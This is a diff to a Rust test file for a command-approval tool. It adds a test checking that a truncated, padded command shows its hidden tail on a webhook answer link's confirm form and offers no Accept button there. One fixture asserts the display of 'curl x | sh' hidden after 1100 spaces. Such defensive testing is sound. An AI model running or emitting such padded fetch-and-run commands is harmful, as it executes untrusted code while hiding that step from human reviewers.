@@ -2,7 +2,8 @@
 //! binary: a command padded with 1100 spaces and one whose tail is spelled
 //! in tag characters show their tails on every surface (`session
 //! approvals` human and `--json`, `cards.jsonl`, the page and its API, the
-//! webhook POST, `run --json`); a card cut to its bound is not `complete`,
+//! webhook POST, an answer link's confirm form, `run --json` and `run`'s
+//! terminal prompt); a card cut to its bound is not `complete`,
 //! and then only the terminal may accept it — `session answer … accept`
 //! exits 11, the API answers 409, the page has no Accept button, a
 //! webhook's accept is refused — and no key reaches the TUI, while decline
@@ -378,4 +379,46 @@ fn run_on_a_terminal_prompts_with_card_text() {
     };
     drop(stdin);
     assert_eq!(status.code(), Some(130));
+}
+
+#[test]
+fn an_answer_links_confirm_form_shows_card_text_and_no_accept_for_an_incomplete_card() {
+    let hook = Hook::start(Some("{}"));
+    let command = format!("{}{}", padded(), "x".repeat(20 * 1024));
+    let mut session =
+        Session::new(|_| json!({"requests": [request_with("r1", "Running: pwd", &command, 0)]}));
+    with_webhook(&mut session, &hook);
+    let serve = Serve::start(&session.env, &["--public-url", "https://phone.example/ow"]);
+    session.start();
+    let card = serve.wait_card("pending", |card| card["state"] == "pending");
+    assert_eq!(card["complete"], false);
+    let deadline = Instant::now() + DEADLINE;
+    while hook.requests().is_empty() {
+        assert!(Instant::now() < deadline, "the webhook was never called");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    let posted = hook.requests()[0].clone();
+    let body: Value =
+        serde_json::from_str(&posted[posted.find("{\"").expect("body")..]).expect("JSON body");
+    assert_eq!(body["card"]["complete"], false);
+    let link = body["answer_url"].as_str().expect("answer_url");
+    let path = link
+        .strip_prefix("https://phone.example/ow")
+        .expect("the public URL");
+    let form = reqwest::blocking::Client::new()
+        .get(format!("{}{path}", serve.base))
+        .send()
+        .expect("GET");
+    assert_eq!(form.status(), 200);
+    let form = form.text().expect("form");
+    assert!(form.contains("echo hi⟨1100 spaces⟩; curl x | sh"), "{form}");
+    assert!(form.contains(" more characters)"), "{form}");
+    assert!(form.contains("Too long to show whole"), "{form}");
+    assert!(
+        !form.contains("value=\"accept\""),
+        "an Accept button: {form}"
+    );
+    assert!(form.contains("value=\"decline\""), "{form}");
+    assert!(session.keys().is_empty());
+    session.stop_and_check();
 }
